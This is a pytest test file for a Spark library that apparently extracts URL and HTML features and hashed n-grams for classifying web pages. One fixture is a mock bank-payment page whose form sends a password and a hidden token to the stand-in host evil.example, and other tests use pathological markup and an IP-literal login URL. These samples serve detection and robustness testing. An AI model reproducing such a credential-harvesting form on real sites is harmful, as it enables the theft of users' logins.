"""URL, HTML, text and hashing columns on literal cases."""

import time
import unicodedata

import pytest
from pyspark.sql import functions as F

from sitesift.constants import DOM_FEATURES, FNV_OFFSET, FNV_PRIME, HASH_DIM, MASK32
from sitesift.functions import html as H
from sitesift.functions.hashing import char_ngrams, fnv1a32, hashed_buckets
from sitesift.functions.normalize import fold_text
from sitesift.functions.urls import (
    add_url_features, authority_host, canonicalize_url, is_ip_literal, registrable_domain,
    suffix_info, url_domain,
)
from sitesift.operators.suffixes import registrable_domain_psl, suffix_longest_match


def one(spark, values, column, kind="string"):
    rows = [(i, v) for i, v in enumerate(values)]
    frame = spark.createDataFrame(rows, f"i int, x {kind}")
    return [r["y"] for r in frame.select("i", column(F.col("x")).alias("y")).orderBy("i").collect()]


@pytest.mark.parametrize("url,expected", [
    ("HTTP://User:pw@Example.COM:0080/a/b//?q=1#f", "http://example.com:80/a/b?q=1"),
    ("example.com/", "//example.com"), ("  https://x.com/?  ", "https://x.com"),
    ("http://x.com:0/", "http://x.com"), ("http://a b.com/x", "http://a b.com/x"),
    ("http://[2001:DB8::1]:8080/", "http://2001:db8::1:8080"), ("http://x.com:70000/", None),
    ("http://example.com:abc/", None), ("http:///x", None), ("   ", None), (None, None),
    ("http://exa／mple.com/x", None), ("1http://x.com/", None), ("//x.com", None),
    ("http://[::1/", None), ("http://x.com:+80/", None),
])
def test_canonical_url(spark, url, expected):
    assert one(spark, [url], canonicalize_url) == [expected]


def test_a_scan_is_written_once_however_often_its_result_is_used(spark):
    scan = F.regexp_replace(F.col("x"), "marker", "")
    assert str(H.unescape(scan)).count("marker") == 1
    assert str(fold_text(F.col("x"))).lower().count("rlike") == 1
    assert str(canonicalize_url(F.col("x"))).lower().count("regexp_extract") <= 9  # four parts, a host, a port and its digits


def test_a_host_is_held_against_the_patterns_of_its_kind_alone(spark):
    assert str(is_ip_literal(F.col("x"))).startswith("Column<'CASE WHEN contains(x, ':') THEN")
    hosts = ["1.2.3.4", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9", "::", "1::", ":::", "1::2::3", "::1.2.3.4", "1:2:3:4:5:6:1.2.3.4",
             "1:2:3:4:5:6:7:1.2.3.4", "::1.2.3.256", "1.2.3.4:", "a", "", "1:2:3:4:5:6:7::", "1::2:3:4:5:6:7:8", "12345::", None]
    expected = [True, True, False, True, True, False, False, True, True, False, False, False, False, False, True, False, False, None]
    assert one(spark, hosts, is_ip_literal) == expected


def test_line_lengths_at_every_kind_of_break(spark):
    pages = ["", "\n", "a\r\nbc\n", "a\rb\x0bcc\x0cd\x1ce\x1df\x1eg\x85hhh\u2028i\u2029j", "é🙂\r\r\n\n", "x\x85", "\u2029"]
    expected = [[len(line) for line in page.splitlines()] for page in pages]
    assert [list(v) for v in one(spark, pages, H.line_lengths)] == expected


def test_ip_literals(spark):
    cases = {
        "http://192.0.2.1/login": True, "http://256.0.2.1/login": False, "http://192.0.02.1/login": False,
        "http://[2001:db8::1]/login": True, "http://[::ffff:192.0.2.1]/login": True,
        "http://[2001:db8:::1]/login": False, "http://[2001:db8::gg]/login": False,
        "http://[1:2:3:4:5:6:7:8]/": True, "http://[1:2:3:4:5:6:7:8:9]/": False, "http://[::]/": True,
        "http://[1::2::3]/": False, "http://[fe80::1%eth0]/": False, "http://1.2.3/": False,
        "http://[1:2:3:4:5:6:7::8]/": False, "http://[1:2:3:4:5:6::8]/": True, "http://[::1:2:3:4:5:6:7:8]/": False,
    }
    assert one(spark, list(cases), lambda u: is_ip_literal(authority_host(u))) == list(cases.values())


def test_tolerant_authority(spark):
    cases = {
        "http://example.com:abc/login": "example.com", "http://exa／mple.com/x": "exa／mple.com",
        "//Host.org/x": "host.org", "user@h.com:1:2": "h.com:1", "a?b@c": "a", "http://[::1": "::1", "": "",
    }
    assert one(spark, list(cases), authority_host) == list(cases.values())


def test_suffixes_and_domains(spark):
    cases = {
        "a.b.co.uk": ("co.uk", 1, "b.co.uk"), "co.uk": ("uk", 0, "co.uk"), "x.co.uk": ("co.uk", 0, "x.co.uk"),
        "example.com": ("com", 0, "example.com"), "a.example.com": ("com", 1, "example.com"),
        "host.internal": ("internal", 1, "host.internal"), "a.host.internal": ("internal", 2, "a.host.internal"),
        "localhost": ("", 0, "localhost"), "1.2.3.4": ("", 0, "1.2.3.4"), "": ("", 0, ""), "a..com.": ("com", 0, "a.com"),
    }
    got = one(spark, list(cases), lambda h: F.struct(
        suffix_info(h)["suffix"].alias("s"), suffix_info(h)["subdomains"].alias("n"), registrable_domain(h).alias("d")))
    assert [tuple(g) for g in got] == list(cases.values())
    assert one(spark, ["http://u@m.shop.com.au:1/x"], url_domain) == ["shop.com.au"]


def test_suffix_rules(spark):
    """Wildcards, exceptions and the plain suffix, as the published list of public suffixes defines them."""
    rules = spark.createDataFrame([(r,) for r in ("jp", "co.jp", "*.kobe.jp", "!city.kobe.jp", "com", "*.ck", "!www.ck")], "suffix string")
    cases = {
        "a.b.c.kobe.jp": ("c.kobe.jp", "b.c.kobe.jp"), "b.c.kobe.jp": ("c.kobe.jp", "b.c.kobe.jp"),
        "c.kobe.jp": ("jp", "kobe.jp"), "x.city.kobe.jp": ("kobe.jp", "city.kobe.jp"), "city.kobe.jp": ("kobe.jp", "city.kobe.jp"),
        "www.x.co.jp": ("co.jp", "x.co.jp"), "y.jp": ("jp", "y.jp"), "www.ck": ("ck", "www.ck"), "a.www.ck": ("ck", "www.ck"),
        "a.b.ck": ("b.ck", "a.b.ck"), "b.ck": (None, "b.ck"), "jp": (None, "jp"), "x.net": (None, "x.net"), "10.0.0.1": (None, "10.0.0.1"),
    }
    hosts = spark.createDataFrame([(h,) for h in cases] * 2, "host string")
    matched = {r["host"]: r["suffix"] for r in suffix_longest_match(hosts, rules).collect()}
    domains = {r["host"]: r["domain"] for r in registrable_domain_psl(hosts, rules).collect()}
    assert {h: (matched[h], domains[h]) for h in cases} == cases
    assert registrable_domain_psl(hosts, rules.limit(0)).where("domain <> host").count() == 0


def test_url_features(spark):
    url = "http://192.0.2.1/login?token=%2Fabc&step=2"
    row = add_url_features(spark.createDataFrame([(url,), (None,), ("http://é٣𠮷.com",)], "url string")).collect()
    first = row[0]
    assert first["url_length"] == len(url) and first["domain_length"] == len("192.0.2.1")
    assert (first["is_domain_ip"], first["is_https"], first["obfuscated_count"]) == (1.0, 0.0, 1.0)
    assert (first["query_count"], first["equals_count"], first["ampersand_count"]) == (1.0, 2.0, 1.0)
    assert first["digit_ratio"] == first["digit_count"] / first["url_length"]
    assert row[1]["url_length"] == 0.0 and row[1]["letter_ratio"] == 0.0
    text = "http://é٣𠮷.com"
    assert row[2]["url_length"] == len(text)
    assert row[2]["letter_count"] == sum(unicodedata.category(c)[0] == "L" for c in text)
    assert row[2]["digit_count"] == 1.0


PAGE = """
<html><head>
 <title>Account
   Portal &amp; more</title>
 <link rel="icon" href="/favicon.ico"><link rel="stylesheet" href="/site.css">
 <meta name="viewport" content="width=device-width, initial-scale=1">
 <meta name="description" content="Secure bank payment"><script src="/app.js"></script>
</head><body>
 <img src="/logo.png"><iframe src="/frame.html"></iframe>
 <form action="https://evil.example/submit"><input type="hidden" name="token">
 <input type="password" name="password"><button type="submit">Pay</button></form>
 <a href="/account">Account</a><a href="#">Empty</a><a href="https://twitter.com/example">Social</a>
 <p>Copyright bank pay bitcoin.</p>
</body></html>
"""


def features(spark, *rows):
    frame = spark.createDataFrame(list(rows), "url string, html string")
    return H.add_page_features(frame).collect()


def test_page_features(spark):
    row = features(spark, ("https://shop.example.com/login", PAGE))[0]
    assert row["status"] == "ok" and row["title"] == "Account Portal & more"
    ones = [n for n in DOM_FEATURES if n.startswith(("has_", "mentions_", "is_", "external_form"))]
    assert all(row[n] == 1.0 for n in ones), {n: row[n] for n in ones}
    assert (row["iframe_count"], row["image_count"], row["css_count"], row["javascript_count"]) == (1, 1, 1, 1)
    assert (row["self_ref_count"], row["empty_ref_count"], row["external_ref_count"]) == (6, 1, 2)


def test_blank_and_broken_pages_give_zeros(spark):
    rows = features(spark, ("https://x.com", ""), ("https://x.com", " \n"), ("https://x.com", None), ("https://x.com", "a\x00b"))
    assert [r["status"] for r in rows] == ["empty", "empty", "empty", "parse_error"]
    assert all(r[n] == 0.0 for r in rows for n in DOM_FEATURES)


def test_markup_that_is_not_markup(spark):
    html = (
        "<p title='<img src=x>'>a<!-- <img src=1><a href=b>bank --><script>var s='<img><a href=z>';</script>"
        "<textarea><img></textarea><IMG SRC=a.png alt=\"x>y\"><img src='b'"
    )
    row = features(spark, ("https://x.com/", html))[0]
    assert row["image_count"] == 1.0 and row["javascript_count"] == 1.0
    assert row["self_ref_count"] == 1.0 and row["mentions_bank"] == 0.0


def test_long_broken_tags_do_not_blow_up(spark):
    html = "<a " + "x='1' " * 20000 + "<script>" + "<" * 20000 + "<a href=\"" * 3000
    assert features(spark, ("https://x.com/", html))[0]["status"] == "ok"


@pytest.mark.parametrize("piece", ["<a ", "<!--", "<script", "<script ", "</script ", "<title ", "<body ", "<a x=1 ", '<a x="'])
def test_hostile_pages_are_scanned_once(spark, piece):
    """A retry from every '<' would take days at this size."""
    html = "<p>start</p>" + piece * (4 * 2**20 // len(piece))
    started = time.monotonic()
    row = features(spark, ("https://x.com/", html))[0]
    assert row["status"] == "ok" and time.monotonic() - started < 60


def test_many_attributes(spark):
    html = "<a " + " ".join(f"k{i % 50000}={i}" for i in range(100000)) + ">"
    attrs = one(spark, [html], H.page_tags)[0][0]["attrs"]
    assert attrs == {f"k{i}": str(i) for i in range(50000)}


def test_character_references(spark):
    cases = {
        "a&amp;lt;b": "a&lt;b", "&apos;&quot;&eacute;": "'\"é", "&#233;&#xE9;&#x1F600;": "éé😀", "&#0;&#xD800;&#99999999;": "\ufffd" * 3,
        "&unknown; & &amp": "&unknown; & &amp", "&&lt;": "&<", "": "", "plain": "plain",
    }
    assert one(spark, list(cases), H.unescape) == list(cases.values())
    assert one(spark, [None], H.unescape) == [None]


def test_date_filter_runs_before_the_features(spark):
    from sitesift.operators.records import canonical_records

    raw = spark.createDataFrame([("https://x.com/", PAGE, "2024-01-01T00:00:00Z", "0")], "url string, html string, date string, label string")
    late = canonical_records(raw).where(F.col("date") > F.lit("2025-01-01").cast("timestamp"))
    plan = late._jdf.queryExecution().optimizedPlan().toString()
    features_at = plan.index("html_line_count") if "html_line_count" in plan else plan.index("Project")
    assert plan.rindex("Filter") > features_at and plan.count("Filter") == 1
    assert "regexp_extract_all" in plan[:plan.rindex("Filter")] and "regexp_extract_all" not in plan[plan.rindex("Filter"):]


def test_attributes(spark):
    html = """<a HREF='/x?a=1&amp;b=2' href="/second" disabled data-href=no>t</a><link rel=icon href=//y.com/f.ico/>"""
    got = one(spark, [html], H.page_tags)[0]
    assert got[0]["tag"] == "a" and got[0]["attrs"] == {"href": "/x?a=1&b=2", "disabled": "", "data-href": "no"}
    assert got[1]["attrs"]["rel"] == "icon"


def test_visible_text_and_nfkc(spark):
    assert one(spark, ["<title>t</title><body> a <b> b </b>c<script>js</script></body>"], H.visible_text) == ["a b c js"]
    assert one(spark, ["<html><title>only title</title></html>"], H.visible_text) == ["only title"]
    assert one(spark, ["ＢＡＮＫ ﬁ", "ÀÉ", "İ", None], fold_text) == ["bank fi", "àé", "i̇", None]


def test_line_lengths(spark):
    cases = ["a\nbcd\r\ne\n", "", "x", "\n", "a\x0bb\x85c d", "a\r\rb"]
    assert one(spark, cases, H.line_lengths) == [[len(x) for x in c.splitlines()] for c in cases]


def test_references(spark):
    base = F.lit("example.com")
    cases = {
        "": "empty", " #x": "empty", "JavaScript:void(0)": "empty", "tel:1": "empty", "/a": "self",
        "a.html": "self", "https://m.example.com/x": "self", "//cdn.other.net/x": "external", "http://": "external",
    }
    assert one(spark, list(cases), lambda r: H.classify_reference(base, r)) == list(cases.values())


def fnv(text):
    h = FNV_OFFSET
    for b in text.encode():
        h = ((h ^ b) * FNV_PRIME) & MASK32
    return h


def test_fnv_vectors(spark):
    assert one(spark, ["hello", "é", "𠮷", ""], fnv1a32) == [0x4F9F2CAB, 0x1E9DE8C1, 0xC130251A, FNV_OFFSET]


def test_ngrams(spark):
    assert one(spark, ["ＡbC"], lambda t: char_ngrams("URL", t)) == [["url:abc"]]
    assert one(spark, ["abcd"], lambda t: char_ngrams("t", t)) == [["t:abc", "t:bcd", "t:abcd"]]
    assert one(spark, ["ab", None], lambda t: char_ngrams("t", t)) == [[], []]


def test_buckets_match_one_by_one_hashing(spark):
    rows = [("https://aaaa.example/é𠮷", "Ｔitle ﬁ ۳"), ("", ""), ("ab", None), ("x" * 50, "日本語テキスト"), ("plain", "ASCII")]
    frame = spark.createDataFrame(rows, "url string, title string")
    for dim in (HASH_DIM, 64):
        got = [r[0] for r in frame.select(hashed_buckets(F.col("url"), F.col("title"), dim)).collect()]
        for (url, title), buckets in zip(rows, got):
            want = set()
            for space, raw in (("url", url), ("title", title or "")):
                t = unicodedata.normalize("NFKC", raw).lower()
                want |= {fnv(f"{space}:{t[i:i + n]}") % dim for n in (3, 4, 5) for i in range(len(t) - n + 1)}
            assert buckets == sorted(want)


def test_pages_without_tags_are_kept(spark):
    pages = spark.createDataFrame([(1, "http://x.com", "plain text"), (2, "http://x.com", "<p><a href=/a>")], "page_id int, url string, html string")
    assert [(r["page_id"], len(r["tags"])) for r in H.with_tags(pages).orderBy("page_id").collect()] == [(1, 0), (2, 2)]
    assert [[x["class"] for x in r["refs"]] for r in H.with_references(pages).orderBy("page_id").collect()] == [[], ["self"]]


def test_buckets_of_a_batch_are_hashed_in_blocks():
    import tracemalloc

    from sitesift.functions.hashing import BLOCK_CHARS, bucket_lists

    urls = [f"https://h{i}.example/{'ab' * (i % 40)}" for i in range(12000)] + [None, "", "x" * (BLOCK_CHARS + 5), "ü\U0001F600" * 9]
    titles = [None if i % 3 else f"Title {i} " * (i % 9) for i in range(len(urls))]
    tracemalloc.start()
    whole = bucket_lists(urls, titles, 4096)
    held = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert held < 40e6 + 3 * whole.nbytes
    some = [*range(0, 12000, 97), *range(11998, len(urls))]
    assert [whole[i].as_py() for i in some] == [bucket_lists([urls[i]], [titles[i]], 4096)[0].as_py() for i in some]
    assert bucket_lists([], [], 4096).to_pylist() == []
